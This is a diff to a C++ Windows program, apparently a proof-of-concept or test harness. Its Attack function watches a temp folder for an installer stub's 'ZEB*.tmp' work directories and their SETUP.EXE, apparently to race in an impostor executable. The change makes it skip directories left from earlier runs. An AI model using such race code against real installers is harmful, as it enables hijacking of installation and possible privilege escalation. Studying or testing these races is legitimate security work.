@@ -30,7 +30,9 @@
 #include <string.h>
 #include <wchar.h>
 
+#include <algorithm>
 #include <string>
+#include <vector>
 
 namespace {
 
@@ -245,14 +247,26 @@ int Attack(const wchar_t* temp, const wchar_t* records, const wchar_t* impostor,
     if (record == nullptr) return 3;
     unsigned long attempts = 0;
     const DWORD start = GetTickCount();
+    const std::wstring pattern = std::wstring(temp) + L"\\ZEB*.tmp";
+    // Work directories that an earlier, interrupted run left behind are not the stub's.
+    std::vector<std::wstring> earlier;
+    WIN32_FIND_DATAW found;
+    HANDLE search = FindFirstFileW(pattern.c_str(), &found);
+    if (search != INVALID_HANDLE_VALUE) {
+        do earlier.push_back(found.cFileName);
+        while (FindNextFileW(search, &found));
+        FindClose(search);
+    }
     while (!AnyFile(std::wstring(records) + L"\\*.txt") && GetTickCount() - start < 180000) {
-        WIN32_FIND_DATAW found;
-        HANDLE search = FindFirstFileW((std::wstring(temp) + L"\\ZEB*.tmp").c_str(), &found);
+        search = FindFirstFileW(pattern.c_str(), &found);
         if (search == INVALID_HANDLE_VALUE) {
             Sleep(1);
             continue;
         }
         do {
+            if (std::find(earlier.begin(), earlier.end(), found.cFileName) != earlier.end()) {
+                continue;
+            }
             std::wstring setup = std::wstring(temp) + L"\\" + found.cFileName + L"\\SETUP.EXE";
             if (GetFileAttributesW(setup.c_str()) == INVALID_FILE_ATTRIBUTES) continue;
             ++attempts;
